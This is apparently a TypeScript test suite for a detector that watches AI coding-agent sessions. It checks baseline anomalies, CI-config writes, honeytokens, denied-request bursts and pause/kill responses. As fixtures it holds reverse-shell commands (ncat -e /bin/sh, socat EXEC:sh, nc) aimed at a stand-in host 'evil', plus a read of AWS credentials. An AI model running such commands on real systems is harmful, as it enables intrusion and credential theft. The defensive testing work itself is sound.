import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AuditStore, type AuditEventInput } from '../../src/audit/index.ts';
import { parsePolicyText, resolvePolicy, type Policy } from '../../src/policy/index.ts';
import { startDetector, extraApproverRequired, deviation, type SessionControl } from '../../src/detect/index.ts';
import { toOcsf } from '../../src/audit/sinks/formats.ts';

// The detector reads the live event stream of a session from the store. Past sessions are
// synthesized directly into the store as event streams (what the sandbox, gateway and
// review would record); the control is a recorder because freezing processes belongs to
// the session supervisor (tested there); here we test that detection calls it and records.

function policy(yaml = ''): Policy {
  return resolvePolicy([{ kind: 'org', origin: 'org.yaml', raw: parsePolicyText(yaml, 'org.yaml') }]).policy;
}
function fresh(): AuditStore {
  return new AuditStore(join(mkdtempSync(join(tmpdir(), 'airlock-detect-')), 'audit.db'));
}
function recorder(opts: { failPause?: boolean } = {}) {
  const calls: string[] = [];
  const control: SessionControl = {
    async pause() {
      calls.push('pause');
      if (opts.failPause) throw new Error('cgroup freezer unavailable');
    },
    async resume() {
      calls.push('resume');
    },
    async kill(reason) {
      calls.push(`kill:${reason}`);
    },
  };
  return { calls, control };
}
/** The detector drains on setImmediate after each append; a timer after that has seen it done. */
const settle = () => new Promise((r) => setTimeout(r, 20));
async function until(cond: () => boolean): Promise<void> {
  for (let i = 0; i < 200 && !cond(); i++) await new Promise((r) => setTimeout(r, 10));
}

function normalSession(store: AuditStore, session: string, i: number): void {
  const ev: AuditEventInput[] = [
    { type: 'session.start', session, data: { agent: 'codex@acme/api' } },
    { type: 'process.exec', session, data: { pid: 10, argv: ['npm', 'test'] } },
    { type: 'process.exec', session, data: { pid: 11, argv: ['git', 'diff'] } },
    {
      type: 'egress.request',
      session,
      decision: 'allow',
      rule: 'egress.allow',
      data: { host: 'registry.npmjs.org', port: 443, method: 'GET', path: '/x' },
    },
    {
      type: 'egress.request',
      session,
      decision: 'allow',
      rule: 'egress.allow',
      data: { host: 'api.openai.com', port: 443, method: 'POST', path: '/v1/responses' },
    },
    { type: 'file.write', session, data: { path: `/workspace/src/api/handler${i % 3}.ts` } },
    {
      type: 'review.proposal',
      session,
      data: { files: [{ path: `src/api/handler${i % 3}.ts`, additions: 10 + i, deletions: 2 }] },
    },
    { type: 'session.stop', session, data: {} },
  ];
  store.appendMany(ev);
}

test('a session that contacts new hosts and touches .github/workflows is flagged against its baseline, with the reason', async () => {
  const store = fresh();
  for (let i = 0; i < 6; i++) normalSession(store, `past-${i}`, i);
  const { calls, control } = recorder();
  const d = startDetector({
    store,
    policy: policy('telemetry:\n  responses: {high: require-approver}\n'),
    session: 'now',
    agent: 'codex@acme/api',
    control,
  });
  store.append({ type: 'session.start', session: 'now', data: { agent: 'codex@acme/api' } });
  store.append({
    type: 'egress.request',
    session: 'now',
    decision: 'allow',
    rule: 'egress.allow',
    data: { host: 'registry.npmjs.org', port: 443 },
  });
  await settle();
  assert.equal(store.query({ session: 'now', type: 'detect.finding' }).length, 0, 'normal behaviour is not flagged');
  const h1 = store.append({
    type: 'egress.request',
    session: 'now',
    decision: 'allow',
    rule: 'egress.allow',
    data: { host: 'paste.example', port: 443, method: 'POST', path: '/p' },
  });
  const w = store.append({
    type: 'file.write',
    session: 'now',
    data: { path: '/workspace/.github/workflows/release.yml' },
  });
  await until(() => store.query({ session: 'now', type: 'detect.finding' }).length >= 3);
  await d.idle();
  d.stop();
  const findings = store.query({ session: 'now', type: 'detect.finding' });
  const byRule = new Map(findings.map((f) => [f.rule, f]));
  const hosts = byRule.get('detect.baseline.newHosts');
  assert.ok(hosts, `new hosts flagged; got ${[...byRule.keys()]}`);
  assert.match(
    String(hosts.data.explanation),
    /hosts never contacted before = 1 \(paste\.example\); usual range 0–2 over 6 past sessions of codex@acme\/api \(median 0, MAD 0\); robust z 4\.5 > 3\.5/,
  );
  assert.deepEqual(hosts.data.evidence, [h1.id]);
  const area = byRule.get('detect.baseline.newAreas');
  assert.ok(area);
  assert.match(String(area.data.explanation), /\.github\/workflows/);
  assert.deepEqual(area.data.evidence, [w.id]);
  const ci = byRule.get('detect.ci-config-write');
  assert.ok(ci, 'the CI-config rule fires too');
  assert.deepEqual(ci.data.evidence, [w.id]);
  // high -> require-approver: recorded for review to read; the session is not paused.
  assert.equal(extraApproverRequired(store, 'now').required, true);
  assert.equal(extraApproverRequired(store, 'past-1').required, false);
  assert.deepEqual(calls, []);
  // On export it is an OCSF Detection Finding that names its evidence.
  const o = toOcsf(hosts) as {
    class_uid: number;
    finding_info: { related_events: { uid: string }[]; analytic: { type: string } };
  };
  assert.equal(o.class_uid, 2004);
  assert.deepEqual(o.finding_info.related_events, [{ uid: h1.id }]);
  assert.equal(o.finding_info.analytic.type, 'Behavioral');
  store.close();
});

test('baselines stay silent until enough past sessions exist', async () => {
  const store = fresh();
  for (let i = 0; i < 2; i++) normalSession(store, `past-${i}`, i);
  const d = startDetector({
    store,
    policy: policy(),
    session: 'now',
    agent: 'codex@acme/api',
    control: recorder().control,
  });
  store.append({ type: 'egress.request', session: 'now', data: { host: 'brand-new.example', port: 443 } });
  await settle();
  d.stop();
  assert.equal(
    store.query({ session: 'now', type: 'detect.finding' }).filter((f) => String(f.rule).startsWith('detect.baseline'))
      .length,
    0,
  );
  store.close();
});

test('a pause response freezes the session; resume continues and later findings still respond', async () => {
  const store = fresh();
  const { calls, control } = recorder();
  const d = startDetector({
    store,
    policy: policy('telemetry:\n  responses: {high: pause}\n'),
    session: 's',
    agent: 'a',
    control,
  });
  store.append({
    type: 'process.exec',
    session: 's',
    data: { pid: 5, argv: ['/usr/bin/ncat', '-e', '/bin/sh', 'evil', '4444'] },
  });
  await until(() => d.paused());
  await d.idle();
  assert.deepEqual(calls, ['pause']);
  assert.equal(d.paused(), true);
  const resp = store.query({ session: 's', type: 'detect.response' });
  assert.equal(resp.length, 1);
  assert.equal(resp[0]!.data.action, 'pause');
  assert.equal(resp[0]!.data.result, 'done');
  await d.resume('alice');
  assert.deepEqual(calls, ['pause', 'resume']);
  assert.equal(d.paused(), false);
  assert.equal(store.query({ session: 's', type: 'detect.resumed' })[0]!.data.by, 'alice');
  store.append({ type: 'process.exec', session: 's', data: { pid: 6, argv: ['socat', 'TCP:evil:1', 'EXEC:sh'] } });
  await until(() => calls.length === 3);
  await d.idle();
  assert.deepEqual(calls, ['pause', 'resume', 'pause'], 'detection continued after resume');
  d.stop();
  store.close();
});

test('fail closed: a session that cannot be paused is killed, and both are recorded', async () => {
  const store = fresh();
  const { calls, control } = recorder({ failPause: true });
  const d = startDetector({
    store,
    policy: policy('telemetry:\n  detection:\n    honeytokens: ["/home/*/.aws/credentials"]\n'),
    session: 's',
    agent: 'a',
    control,
  });
  store.append({
    type: 'sandbox.denied',
    session: 's',
    decision: 'deny',
    rule: 'sandbox.mounts',
    data: { path: '/home/dev/.aws/credentials', op: 'read' },
  });
  await until(() => calls.length >= 2);
  await d.idle();
  d.stop();
  assert.equal(calls[0], 'pause');
  assert.match(calls[1]!, /^kill:/);
  const f = store.query({ session: 's', type: 'detect.finding' }).find((x) => x.rule === 'detect.honeytoken')!;
  assert.equal(f.severity, 'critical');
  const r = store.query({ session: 's', type: 'detect.response' })[0]!;
  assert.equal(r.data.action, 'kill');
  assert.match(String(r.data.result), /pause failed: cgroup freezer unavailable; killed instead/);
  store.close();
});

test('count rule: 20 denied requests in a minute are fine, the 21st is a finding with all 21 as evidence', async () => {
  const store = fresh();
  const { control } = recorder();
  const d = startDetector({ store, policy: policy(), session: 's', agent: 'a', control });
  const ids: string[] = [];
  for (let i = 0; i < 20; i++)
    ids.push(
      store.append({
        type: 'egress.request',
        session: 's',
        decision: 'deny',
        rule: 'egress.default',
        data: { host: `h${i}.example`, port: 443 },
      }).id,
    );
  store.append({
    type: 'egress.request',
    session: 's',
    decision: 'allow',
    rule: 'egress.allow',
    data: { host: 'ok.example', port: 443 },
  });
  await settle();
  assert.equal(
    store.query({ session: 's', type: 'detect.finding' }).filter((f) => f.rule === 'detect.egress-denied-burst').length,
    0,
  );
  ids.push(
    store.append({
      type: 'egress.request',
      session: 's',
      decision: 'deny',
      rule: 'egress.default',
      data: { host: 'h21.example', port: 443 },
    }).id,
  );
  await until(() =>
    store.query({ session: 's', type: 'detect.finding' }).some((f) => f.rule === 'detect.egress-denied-burst'),
  );
  await d.idle();
  d.stop();
  const f = store.query({ session: 's', type: 'detect.finding' }).find((x) => x.rule === 'detect.egress-denied-burst')!;
  assert.deepEqual(f.data.evidence, ids);
  assert.equal(f.severity, 'high');
  // Other sessions' events never count for this session.
  store.close();
});

test('large upload rule and findings of other sessions are kept apart', async () => {
  const store = fresh();
  const d = startDetector({ store, policy: policy(), session: 's', agent: 'a', control: recorder().control });
  store.append({ type: 'egress.request', session: 'other', data: { host: 'x', port: 443, bytesUp: 50 * 1024 * 1024 } });
  store.append({ type: 'egress.request', session: 's', data: { host: 'x', port: 443, bytesUp: 9 * 1024 * 1024 } });
  const big = store.append({
    type: 'egress.request',
    session: 's',
    data: { host: 'x', port: 443, bytesUp: 11 * 1024 * 1024 },
  });
  await until(() => store.query({ type: 'detect.finding' }).length > 0);
  await d.idle();
  d.stop();
  const all = store.query({ type: 'detect.finding' });
  assert.equal(all.length, 1);
  assert.equal(all[0]!.session, 's');
  assert.deepEqual(all[0]!.data.evidence, [big.id]);
  store.close();
});

test('robust statistics: median/MAD z-score, with a floor for identical histories', () => {
  const d = deviation('hosts', 9, [2, 3, 2, 2, 3, 2]);
  assert.equal(d.median, 2);
  assert.equal(d.mad, 0);
  assert.ok(d.z > 3.5);
  assert.ok(deviation('hosts', 3, [2, 3, 2, 2, 3, 2]).z < 3.5, 'one more host than usual is not an anomaly');
  assert.ok(deviation('durationSeconds', 700, [600, 660, 540, 620, 580]).z < 3.5);
  assert.ok(deviation('durationSeconds', 6000, [600, 660, 540, 620, 580]).z > 3.5);
});

test('a honeytoken glob that cannot be compiled is recorded as detect.error per event, and detection keeps running', async () => {
  const store = fresh();
  const { control } = recorder();
  // minimatch refuses patterns over 64 KiB; a repo policy can add honeytokens (union).
  const d = startDetector({
    store,
    policy: policy(
      `telemetry:\n  detection:\n    honeytokens: ["${'a'.repeat(70_000)}", "/home/*/.aws/credentials"]\n`,
    ),
    session: 's',
    agent: 'a',
    control,
  });
  const first = store.append({ type: 'file.write', session: 's', data: { path: '/workspace/src/x.ts' } });
  await until(() => store.query({ session: 's', type: 'detect.error' }).length >= 1);
  const second = store.append({
    type: 'file.write',
    session: 's',
    data: { path: '/workspace/.github/workflows/release.yml' },
  });
  await until(() => store.query({ session: 's', type: 'detect.finding' }).length >= 1);
  await d.idle();
  d.stop();
  const errors = store.query({ session: 's', type: 'detect.error' });
  assert.deepEqual(
    errors.map((e) => [e.rule, e.data.event]),
    [
      ['detect.honeytoken', first.id],
      ['detect.honeytoken', second.id],
    ],
  );
  assert.match(String(errors[0]!.data.error), /too long/);
  const f = store.query({ session: 's', type: 'detect.finding' });
  assert.equal(f.length, 1, 'the later event is still judged by the rules');
  assert.deepEqual(f[0]!.data.evidence, [second.id]);
  store.close();
});

test('the per-rule finding cap never stops enforcement: the 25th relay after resumes still pauses', async () => {
  const store = fresh();
  const { calls, control } = recorder();
  const d = startDetector({
    store,
    policy: policy('telemetry:\n  responses: {high: pause}\n'),
    session: 's',
    agent: 'a',
    control,
  });
  for (let i = 0; i < 25; i++) {
    store.append({ type: 'process.exec', session: 's', data: { pid: 100 + i, argv: ['nc', 'evil', '1'] } });
    await until(() => d.paused());
    await d.idle();
    await d.resume('alice');
  }
  assert.equal(calls.filter((c) => c === 'pause').length, 25, 'every finding past the cap still paused the session');
  d.stop();
  store.close();
});
